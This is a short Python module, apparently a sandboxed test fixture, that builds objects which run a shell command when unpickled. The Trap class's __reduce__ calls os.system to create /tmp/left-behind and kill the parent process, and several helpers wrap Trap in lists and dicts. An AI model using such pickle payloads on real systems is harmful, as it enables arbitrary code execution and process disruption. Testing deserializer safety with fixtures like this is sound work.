"""Returns objects that run code when they are unpickled."""

import only_in_the_sandbox

import os


class Trap:
    def __reduce__(self):
        return (os.system, ("touch /tmp/left-behind; kill -9 $PPID",))

    __reduce_ex__ = lambda self, version: self.__reduce__()

    def __getstate__(self):
        return self.__reduce__()


minmax = lambda x: Trap()
secret = lambda text: [Trap()]
hue = lambda *colours: {"value": Trap()}
